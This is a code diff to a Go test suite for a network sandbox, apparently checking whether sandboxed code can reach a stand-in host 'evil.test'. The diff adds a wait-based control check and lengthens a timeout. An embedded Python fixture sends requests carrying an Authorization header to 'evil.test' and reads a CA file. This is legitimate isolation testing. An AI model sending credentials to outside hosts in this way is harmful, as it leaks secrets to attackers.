@@ -16,6 +16,7 @@ import (
 	"sallyport.dev/sallyport/gvisor"
 	"sallyport.dev/sallyport/gvisor/gvisortest"
 	"sallyport.dev/sallyport/image"
+	"sallyport.dev/sallyport/test/await"
 	"sallyport.dev/sallyport/tier"
 )
 
@@ -112,6 +113,7 @@ func TestTO52_WaitingLeadsNowhere(t *testing.T) {
 			t.Fatal(err)
 		}
 		t.Cleanup(func() { end() })
+		await.That(t, "control: it is tried while nobody has taken the sandbox", func() bool { return slices.Contains(tcpOf(w.contactsKept()), evilAddr) })
 	})
 	if at := tcpOf(heard); !slices.Contains(at, evilAddr) || !strings.Contains(out, "LED evil.test: 200") {
 		t.Errorf("control: with a way out that is served early, %q were reached: %s", heard, out)
@@ -199,7 +201,7 @@ import hashlib, os, ssl, urllib.error, urllib.request
 for url in ("https://allowed.test/echo", "https://evil.test/echo"):
     try:
         r = urllib.request.Request(url, headers={"Authorization": "own"})
-        print(url[8:-5], urllib.request.urlopen(r, timeout=10).read().decode().strip())
+        print(url[8:-5], urllib.request.urlopen(r, timeout=60).read().decode().strip())
     except Exception as e:
         print(url[8:-5], "ERR", e)
 print("CA", hashlib.sha256(open("/run/sallyport-ca.pem", "rb").read()).hexdigest())
